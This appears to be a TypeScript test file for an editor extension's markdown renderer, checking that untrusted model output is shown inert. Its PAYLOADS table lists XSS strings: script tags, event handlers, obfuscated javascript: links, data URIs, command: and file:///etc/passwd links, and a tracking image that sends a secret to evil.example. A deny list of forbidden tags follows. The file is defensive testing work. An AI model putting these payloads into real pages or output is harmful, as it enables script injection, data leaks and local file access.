import assert from 'node:assert/strict';
import { safeLinkUrl } from '../../../src/shared/links';
import { renderMarkdown } from '../../../src/webview/markdown';
import { useDom } from './dom-env';

/** Model output that tries to run script, phone home or reach the editor's commands. */
const PAYLOADS: Record<string, string> = {
  'script tag': '<script>window.__pwned("script")</script>',
  'script tag inline': 'hello <script>window.__pwned("inline")</script> world',
  'img onerror': '<img src=x onerror="window.__pwned(\'img\')">',
  'onclick on raw anchor': '<a href="https://ok.example" onclick="window.__pwned(\'a\')">click</a>',
  'iframe': '<iframe src="https://evil.example/"></iframe>',
  'svg with script': '<svg><script>window.__pwned("svg")</script></svg>',
  'svg onload': '<svg onload="window.__pwned(\'svgload\')"><circle r="10"/></svg>',
  'math xlink': '<math><mi xlink:href="javascript:window.__pwned(1)">x</mi></math>',
  'style tag': '<style>body { display: none }</style>',
  'form': '<form action="https://evil.example/"><input name="q"><button formaction="javascript:alert(1)">go</button></form>',
  'details ontoggle': '<details open ontoggle="window.__pwned(\'details\')">x</details>',
  'object/embed': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'javascript link': '[click me](javascript:window.__pwned("link"))',
  'uppercase javascript link': '[click me](JAVASCRIPT:window.__pwned("link"))',
  'entity-encoded javascript link': '[click me](&#106;avascript:window.__pwned("link"))',
  'tab-split javascript link': '[click me](java&#x09;script:window.__pwned("link"))',
  'data link': '[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'command link': '[run](command:workbench.action.terminal.new)',
  'command link with args': '[run](command:vscode.open?%5B%22file%3A%2F%2F%2Fetc%2Fpasswd%22%5D)',
  'vscode link': '[install](vscode:extension/evil.extension)',
  'file link': '[secrets](file:///etc/passwd)',
  'relative link': '[here](./settings.json)',
  'javascript autolink': '<javascript:window.__pwned("autolink")>',
  'command autolink': '<command:workbench.action.quit>',
  'reference link to javascript': '[x][evil]\n\n[evil]: javascript:window.__pwned("ref")',
  'remote image': '![tracker](https://evil.example/pixel.png?secret=abc)',
  'image in link': '[![badge](https://evil.example/b.svg)](https://ok.example/)',
  'data image': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'title attribute breakout': '[x](https://ok.example/ "a\\" onmouseover=\\"window.__pwned(1)")',
  'html in code fence label': '```"><img src=x onerror=window.__pwned(1)>\ncode\n```',
  'html in code span': '`<script>window.__pwned(1)</script>`',
};

const FORBIDDEN_TAGS = ['script', 'iframe', 'img', 'math', 'style', 'form', 'input', 'button:not(.icon-button)', 'object', 'embed', 'meta', 'link', 'base', 'details', 'video', 'audio', 'source', 'frame', 'textarea'];

describe('markdown rendering of untrusted model output', () => {
  const env = useDom({ runScripts: 'dangerously' });
  let pwned: string[];

  beforeEach(() => {
    pwned = [];
    (env.window as unknown as { __pwned: (what: string) => void }).__pwned = (what) => { pwned.push(String(what)); };
    document.body.replaceChildren();
  });

  function render(markdown: string): HTMLElement {
    const container = document.createElement('div');
    container.append(renderMarkdown(markdown));
    document.body.append(container);
    return container;
  }

  function assertInert(container: HTMLElement, name: string): void {
    for (const selector of FORBIDDEN_TAGS) {
      assert.equal(container.querySelector(selector), null, `${name}: found <${selector}>`);
    }
    // Our own codicons are inline <svg> in the code-block toolbar buttons; any other svg is model output.
    for (const svg of Array.from(container.querySelectorAll('svg'))) {
      assert.ok(svg.parentElement?.matches('.code-block-actions > button.icon-button'), `${name}: <svg> outside the toolbar`);
    }
    for (const el of Array.from(container.querySelectorAll('*'))) {
      if (el.closest('svg')) continue;
      for (const attr of Array.from(el.attributes)) {
        assert.doesNotMatch(attr.name, /^on|^(src|srcset|style|action|formaction|xlink:href|background|poster)$/i, `${name}: <${el.tagName.toLowerCase()} ${attr.name}>`);
      }
    }
    for (const a of Array.from(container.querySelectorAll('a'))) {
      assert.match(a.getAttribute('href') ?? '', /^(https?:|mailto:)/, `${name}: link to ${a.getAttribute('href')}`);
    }
    // Clicking everything must not run anything either.
    for (const el of Array.from(container.querySelectorAll<HTMLElement>('*'))) el.dispatchEvent(new env.window.MouseEvent('mouseover', { bubbles: true }));
    assert.deepEqual(pwned, [], `${name}: script ran`);
  }

  for (const [name, payload] of Object.entries(PAYLOADS)) {
    it(`renders inert: ${name}`, () => assertInert(render(payload), name));
  }

  it('runs the payloads as one document too (context switching between blocks)', () => {
    assertInert(render(Object.values(PAYLOADS).join('\n\n')), 'all payloads');
  });

  it('the checks above would notice a script that got through (the harness is not vacuous)', () => {
    const container = document.createElement('div');
    document.body.append(container);
    const script = document.createElement('script');
    script.textContent = 'window.__pwned("harness")';
    container.append(script);
    assert.deepEqual(pwned, ['harness']);
    assert.throws(() => assertInert(container, 'harness'), /found <script>/);
    const a = document.createElement('a');
    a.setAttribute('href', 'javascript:void 0');
    container.replaceChildren(a);
    pwned = [];
    assert.throws(() => assertInert(container, 'harness'), /link to javascript/);
  });

  it('shows raw HTML as text instead of dropping it', () => {
    const container = render('<script>window.__pwned(1)</script>');
    assert.match(container.textContent ?? '', /<script>window\.__pwned\(1\)<\/script>/);
  });

  it('turns disallowed links into plain text that still shows where they pointed', () => {
    const container = render('[run](command:workbench.action.terminal.new) and [js](javascript:alert(1))');
    assert.equal(container.querySelectorAll('a').length, 0);
    const blocked = Array.from(container.querySelectorAll('.blocked-link'));
    assert.deepEqual(blocked.map((b) => b.textContent), ['run', 'js']);
    assert.match(blocked[0]!.getAttribute('title') ?? '', /command:workbench\.action\.terminal\.new/);
  });

  it('keeps http(s) and mailto links, with the target in the tooltip', () => {
    const container = render('[docs](https://docs.litellm.ai/docs/ "LiteLLM") <https://example.com/a?b=1&c=2> www.example.org mail@example.com');
    const links = Array.from(container.querySelectorAll('a'));
    assert.deepEqual(links.map((a) => a.getAttribute('href')), ['https://docs.litellm.ai/docs/', 'https://example.com/a?b=1&c=2', 'http://www.example.org/', 'mailto:mail@example.com']);
    assert.equal(links[0]!.getAttribute('title'), 'LiteLLM — https://docs.litellm.ai/docs/');
  });

  it('replaces images with a text placeholder showing the alt text and the URL', () => {
    const container = render('![build status](https://evil.example/pixel.png?secret=abc)');
    assert.equal(container.querySelector('img'), null);
    const placeholder = container.querySelector('.image-placeholder');
    assert.ok(placeholder);
    assert.equal(placeholder.querySelector('.image-alt')?.textContent, 'build status');
    assert.equal(placeholder.querySelector('.image-url')?.textContent, 'https://evil.example/pixel.png?secret=abc');
  });

  it('highlights code blocks and gives them copy / insert / apply actions', () => {
    const container = render('```ts\nconst answer: number = 42; // why\n```');
    const block = container.querySelector('.code-block');
    assert.ok(block);
    assert.equal(block.getAttribute('data-lang'), 'ts');
    assert.equal(block.querySelector('pre code')?.textContent, 'const answer: number = 42; // why');
    assert.ok(block.querySelector('.hljs-keyword'), 'keywords highlighted');
    assert.ok(block.querySelector('.hljs-comment'), 'comments highlighted');
    const buttons = Array.from(block.querySelectorAll('[data-code-action]'));
    assert.deepEqual(buttons.map((b) => b.getAttribute('data-code-action')), ['copy', 'insert', 'apply']);
    assert.deepEqual(buttons.map((b) => b.getAttribute('aria-label')), ['Copy ts code', 'Insert ts code at cursor', 'Apply ts code to the editor (shows a diff)']);
  });

  it('shows unknown or hostile fence labels as plain code', () => {
    const container = render('```"><img src=x>\n<b>not bold</b>\n```');
    const block = container.querySelector('.code-block');
    assert.equal(block?.getAttribute('data-lang'), '');
    assert.equal(block?.querySelector('pre code')?.textContent, '<b>not bold</b>');
    assert.equal(block?.querySelector('b'), null);
  });

  it('renders GFM: tables, task lists, strikethrough', () => {
    const container = render('| a | b |\n|---|:-:|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\n~~old~~');
    assert.equal(container.querySelectorAll('table td').length, 2);
    assert.equal(container.querySelectorAll('.task-box').length, 2);
    assert.equal(container.querySelector('input'), null);
    assert.equal(container.querySelector('del')?.textContent, 'old');
  });
});

describe('safeLinkUrl', () => {
  it('allows only absolute http, https and mailto', () => {
    assert.equal(safeLinkUrl('https://example.com'), 'https://example.com/');
    assert.equal(safeLinkUrl('  HTTP://Example.com/x '), 'http://example.com/x');
    assert.equal(safeLinkUrl('mailto:a@b.c'), 'mailto:a@b.c');
    for (const bad of ['javascript:alert(1)', 'java\tscript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,x', 'command:x', 'vscode:extension/x', 'vscode-webview://x', 'file:///etc/passwd', '/relative', '#frag', '//evil.example/x', '', null, undefined]) {
      assert.equal(safeLinkUrl(bad), null, String(bad));
    }
  });
});
